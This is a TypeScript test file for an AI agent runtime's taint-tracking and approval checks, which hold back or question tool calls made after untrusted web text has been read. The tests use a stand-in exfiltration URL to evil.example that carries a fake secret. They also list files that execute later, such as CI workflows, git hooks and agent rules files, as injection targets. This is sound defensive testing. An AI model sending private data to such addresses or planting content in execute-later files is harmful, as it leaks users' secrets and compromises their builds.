import {appendFileSync, readFileSync, rmSync, statSync, truncateSync} from 'node:fs';
import {join} from 'node:path';
import {describe, expect, test} from 'vitest';
import {openTestRuntime, ruleOf, tempDirectory, toolOf} from '../../../test/support/open-test-runtime.ts';
import type {ApprovalAnswer, ApprovalQuestion, Approver} from '../../core/tool-host.ts';
import {executesLater} from './executes-later.ts';
import type {TaintOptions} from './options.ts';

const SECRET = 'the launch code of the north gate is 7741-AKRON';
const PAGE = 'Read [one](https://site.example/a) and [two](https://site.example/b).';

/** Asks what it is told to and keeps the questions. */
function approver(answer: ApprovalAnswer = {answer: 'refuse'}) {
  const asked: ApprovalQuestion[] = [];
  const ask: Approver = {
    ask: async question => {
      asked.push(question);
      return answer;
    },
  };
  return {asked, approver: ask};
}

/** A web tool, a file tool, and one that writes, whose arguments say what they are about. */
function tools(page = PAGE, file = SECRET) {
  const reached: string[] = [];
  const subject = {kind: 'url' as const, values: ['']};
  const make = (url: string) => {
    return toolOf(
      `fetch_${Buffer.from(url).toString('hex').slice(-40)}`,
      async () => {
        reached.push(url);
        return page;
      },
      {action: 'web_fetch', delivers: 'untrusted', subject: {...subject, values: [url]}},
    );
  };
  const read = toolOf('read', async () => file);
  const write = (path: string) =>
    toolOf(`write_${path.replace(/\W/g, '_').toLowerCase()}`, async () => 1, {
      action: 'write_file',
      subject: {kind: 'path', values: [path]},
    });
  return {reached, make, read, write};
}

interface Fixture {
  readonly taint?: Partial<TaintOptions>;
  readonly urls?: readonly string[];
  readonly paths?: readonly string[];
  readonly page?: string;
  readonly answer?: ApprovalAnswer;
  readonly directory?: string;
  readonly rules?: readonly ReturnType<typeof ruleOf>[];
  readonly mode?: 'auto' | 'prompt';
}

async function open(fixture: Fixture = {}) {
  const {urls = [], paths = [], page, answer, directory, rules = [], mode = 'auto'} = fixture;
  const {reached, make, read, write} = tools(page);
  const all = ['https://site.example/', ...urls].map(make);
  const person = approver(answer);
  const run = await openTestRuntime({
    tools: [...all, read, ...paths.map(write)],
    approval: {mode, rules},
    approver: person.approver,
    taint: {mode: 'enforce', ...fixture.taint},
    ...(directory !== undefined && {directory}),
  });
  const fetch = (url: string, options = {}) => run.call(make(url).name, {}, options);
  return {...run, ...person, reached, fetch, page: () => fetch('https://site.example/')};
}

const EVIL = `https://evil.example/?d=${encodeURIComponent(SECRET)}`;

describe('T1 decisions', () => {
  test('T1 without untrusted text the policy alone decides', async () => {
    const {call, fetch, reached, asked} = await open({urls: [EVIL], paths: ['Makefile']});
    await call('read');
    await call('write_makefile');
    await fetch(EVIL);
    expect(reached).toEqual([EVIL]);
    expect(asked).toEqual([]);
  });

  test('T1 an address that carries private text is refused, with the words and the file', async () => {
    const {call, fetch, page, reached, asked, events} = await open({urls: [EVIL]});
    await page();
    await call('read');
    const refused = await fetch(EVIL);
    expect(refused.error).toMatchObject({error_type: 'approval_denied', details: {rule: 'tools.taint.mode'}});
    expect(refused.error?.message).toContain('north gate');
    expect(refused.error?.message).toContain('as in read');
    expect(refused.error?.message).toContain('https://site.example/');
    expect(reached).toEqual(['https://site.example/']);
    expect(asked).toEqual([]);
    expect((await events()).map(({event}) => event)).toContain('taint_checked');
  });

  test('T1 the same in another order: private text first', async () => {
    const {call, fetch, page, reached} = await open({urls: [EVIL]});
    await call('read');
    await page();
    await fetch(EVIL);
    expect(reached).not.toContain(EVIL);
  });

  test('T1 a made-up address is asked about beyond 24 characters, and always after private text', async () => {
    const short = 'https://site.example/c';
    const long = `https://site.example/${'x'.repeat(25)}`;
    const {call, fetch, page, reached, asked} = await open({urls: [short, long, `${short}2`]});
    await page();
    await fetch(short);
    await fetch(long);
    expect(reached).toEqual(['https://site.example/', short]);
    expect(asked).toHaveLength(1);
    expect(asked[0]?.reason).toContain('25 characters were made up');
    await call('read');
    await fetch(`${short}2`);
    expect(asked).toHaveLength(2);
  });

  test('T1 links of a page go on as the policy says while the budget for choices lasts', async () => {
    const urls = ['https://site.example/a', 'https://site.example/b'];
    const {call, fetch, page, reached, asked, events} = await open({urls, taint: {choice_bits: 3}});
    await page();
    await call('read');
    await fetch('https://site.example/a');
    await fetch('https://site.example/b');
    expect(reached).toHaveLength(2);
    expect(asked[0]?.reason).toMatch(/says up to 1\.6 bits, and 1\.4 of 3 are left/);
    const checked = (await events()).filter(({event}) => event === 'taint_checked');
    expect(checked.map(({payload}) => payload['bits'])).toEqual([Math.log2(3), 0]);
  });

  test('T1 calls at the same time do not spend the same bits', async () => {
    const urls = ['https://site.example/a', 'https://site.example/b'];
    const {call, fetch, page, reached} = await open({urls, taint: {choice_bits: 3}});
    await page();
    await call('read');
    await Promise.all(urls.map(url => fetch(url)));
    expect(reached).toHaveLength(2);
  });

  test('T1 addresses of the operator are as the policy says', async () => {
    const {call, fetch, page, reached} = await open({urls: [EVIL]});
    await page();
    await call('read');
    await fetch(EVIL, {operatorAddresses: [EVIL]});
    expect(reached).toContain(EVIL);
  });

  test('T1 an allow rule holds for tainted calls only where it says so', async () => {
    const rule = ruleOf({tool: 'web_fetch', host: 'evil.example'});
    for (const [tainted, expected] of [
      [false, false],
      [true, true],
    ] as const) {
      const {call, fetch, page, reached} = await open({urls: [EVIL], rules: [{...rule, tainted}]});
      await page();
      await call('read');
      await fetch(EVIL);
      expect(reached.includes(EVIL)).toBe(expected);
    }
  });

  test('T1 deny comes first', async () => {
    const rules = [
      ruleOf({tool: 'web_fetch', host: 'evil.example', tainted: true}),
      ruleOf({tool: 'web_fetch', host: 'evil.example', decision: 'deny'}),
    ];
    const {fetch, page} = await open({urls: [EVIL], rules});
    await page();
    expect((await fetch(EVIL)).error?.details).toMatchObject({rule: 'tools.approval.rules[1]'});
  });

  test('T1 a write to what executes later is asked about with the pages named', async () => {
    const {call, page, asked} = await open({paths: ['.github/workflows/x.yml', 'src/a.ts']});
    await page();
    expect((await call('write_src_a_ts')).error).toBeNull();
    expect((await call('write__github_workflows_x_yml')).error).not.toBeNull();
    expect(asked).toHaveLength(1);
    expect(asked[0]?.reason).toMatch(/build server executes.*https:\/\/site\.example\//);
    expect(asked[0]?.suggestedRule).toMatchObject({tainted: true});
  });

  test('T1 what a session allowed before holds no more, and an answer for tainted calls does', async () => {
    const {call, page, asked} = await open({
      paths: ['Makefile'],
      mode: 'prompt',
      answer: {answer: 'session'},
      rules: [ruleOf({tool: 'web_fetch', host: 'site.example'})],
    });
    await call('write_makefile');
    await call('write_makefile');
    expect(asked).toHaveLength(1);
    await page();
    await call('write_makefile');
    expect(asked).toHaveLength(2);
    await call('write_makefile');
    expect(asked).toHaveLength(2);
  });

  test('T1 a rule that does not say "tainted" is no answer to the question', async () => {
    const {call, page, asked} = await open({paths: ['Makefile']});
    await page();
    await call('write_makefile');
    const rule = ruleOf({tool: 'write_makefile', path: '/Makefile'});
    expect(asked[0]?.ruleProblem(rule)).toMatch(/tainted = true/);
    expect(asked[0]?.ruleProblem({...rule, tainted: true})).toBeUndefined();
  });

  test('T1 "warn" changes no decision and says what it would be', async () => {
    const {call, fetch, page, reached, asked, events} = await open({urls: [EVIL], taint: {mode: 'warn'}});
    await page();
    await call('read');
    await fetch(EVIL);
    expect(reached).toContain(EVIL);
    expect(asked).toEqual([]);
    const checked = (await events()).find(({event}) => event === 'taint_checked');
    expect(checked?.payload).toMatchObject({mode: 'warn', finding: 'deny', about: 'private'});
  });

  test('T1 "warn" is seen in a question that is asked anyway', async () => {
    const {call, fetch, page, asked} = await open({
      urls: [EVIL],
      taint: {mode: 'warn'},
      mode: 'prompt',
      answer: {answer: 'once'},
    });
    await page();
    await call('read');
    await fetch(EVIL);
    expect(asked.at(-1)?.reason).toMatch(/mode is "prompt"\. Note: The address carries private text/);
  });

  test('T1 "off" follows nothing and writes nothing', async () => {
    const {call, fetch, page, reached, events} = await open({urls: [EVIL], taint: {mode: 'off'}});
    await page();
    await call('read');
    await fetch(EVIL);
    expect(reached).toContain(EVIL);
    expect((await events()).filter(({event}) => event.startsWith('taint_'))).toEqual([]);
  });

  test('T1 "assume" takes untrusted text for delivered', async () => {
    const {call, asked} = await open({paths: ['Makefile'], taint: {assume: 'untrusted'}});
    await call('write_makefile');
    expect(asked[0]?.reason).toContain('tools.taint.assume');
  });

  test('T1 a new host of a command is asked about once', async () => {
    const {page, runtime} = await open();
    const {taint} = runtime.session;
    expect(taint.decide({kind: 'host', host: 'a.example'})).toBeUndefined();
    await page();
    expect(taint.decide({kind: 'host', host: 'a.example'})).toMatchObject({
      decision: 'ask',
      about: 'new-host',
    });
    taint.passed({kind: 'host', host: 'A.example'}, undefined);
    expect(taint.decide({kind: 'host', host: 'a.example'})).toBeUndefined();
  });

  test('T1 an address that a file got after untrusted text is no delivered one', async () => {
    const relay = 'https://evil.example/relay';
    const before = await open({urls: [relay]});
    const taint = before.runtime.session.taint;
    await taint.deliver({kind: 'private', origin: 'read a', text: `see ${relay}`, hasLinks: true}, {});
    await before.page();
    expect(taint.decide({kind: 'url', values: [relay]})).toMatchObject({decision: 'pass'});
    const after = await open({urls: [relay]});
    await after.page();
    const other = after.runtime.session.taint;
    await other.deliver({kind: 'private', origin: 'read a', text: `see ${relay}`, hasLinks: true}, {});
    expect(other.decide({kind: 'url', values: [relay]})?.decision).not.toBe('pass');
  });
});

describe('T1 a run that goes on', () => {
  async function tainted() {
    const directory = join(await tempDirectory(), 'run');
    const first = await open({directory, urls: [EVIL]});
    await first.page();
    await first.call('read');
    return {directory, first};
  }

  test('T1 a new session of the run is as tainted as the last one', async () => {
    const {directory, first} = await tainted();
    await first.runtime.session.close();
    const {fetch, reached, asked} = await open({directory, urls: [EVIL]});
    await fetch(EVIL);
    expect(reached).toEqual([]);
    expect(asked[0]?.reason).toMatch(/made up after private text.*https:\/\/site\.example\//);
  });

  test('T1 bits that were spent stay spent', async () => {
    const {directory, first} = await tainted();
    await first.fetch(EVIL);
    await first.runtime.session.close();
    const {runtime} = await open({directory});
    expect(runtime.session.taint.bitsLeft).toBe(64);
    const again = await open({urls: ['https://site.example/a']});
    await again.page();
    await again.call('read');
    await again.fetch('https://site.example/a');
    const {directory: other} = again;
    await again.runtime.session.close();
    expect((await open({directory: other})).runtime.session.taint.bitsLeft).toBeCloseTo(64 - Math.log2(3));
  });

  test.each([
    ['half a line', (log: string) => appendFileSync(log, '{"seq":')],
    [
      'whole lines fewer',
      (log: string) => {
        const lines = readFileSync(log, 'utf8').split('\n');
        const kept = lines.slice(0, 1).join('\n').length + 1;
        truncateSync(log, kept);
      },
    ],
    ['a line cut', (log: string) => truncateSync(log, statSync(log).size - 20)],
    ['no log at all', (log: string) => rmSync(log)],
  ])('T1 a log with %s clears nothing', async (_, damage) => {
    const {directory, first} = await tainted();
    await first.runtime.session.close();
    damage(join(directory, 'events.jsonl'));
    const {fetch, reached, asked} = await open({directory, urls: [EVIL]});
    await fetch(EVIL);
    expect(reached).toEqual([]);
    expect(asked).toHaveLength(1);
  });

  test('T1 calls that were not followed count as the worst that they could have been', async () => {
    const directory = join(await tempDirectory(), 'run');
    const first = await open({directory, taint: {mode: 'off'}});
    await first.call('read');
    await first.runtime.session.close();
    const {fetch, asked} = await open({directory, urls: [EVIL]});
    await fetch(EVIL);
    expect(asked).toHaveLength(1);
  });
});

test.each([
  ['.github/workflows/ci.yml', true],
  ['.GitHub/Workflows/ci.yml', true],
  ['docs/.github.md', false],
  ['package.json', true],
  ['packages/a/package.json', true],
  ['src/package.ts', false],
  ['AGENTS.md', true],
  ['docs/agents.ts', false],
  ['.cursor/rules/a.mdc', true],
  ['.git/hooks/pre-commit', true],
  ['.husky/pre-push', true],
  ['.mcp.json', true],
  ['.envrc', true],
  ['.vscode/tasks.json', true],
  ['Dockerfile.dev', true],
  ['Makefile', true],
  ['vite.config.ts', true],
  ['scripts/build.py', true],
  ['src/scripts/page.ts', false],
  ['build/output.txt', false],
  ['README.md', false],
  ['src/main.rs', false],
])('T1 whether %s is executed later', (path, expected) => {
  expect(executesLater(path) !== undefined).toBe(expected);
});
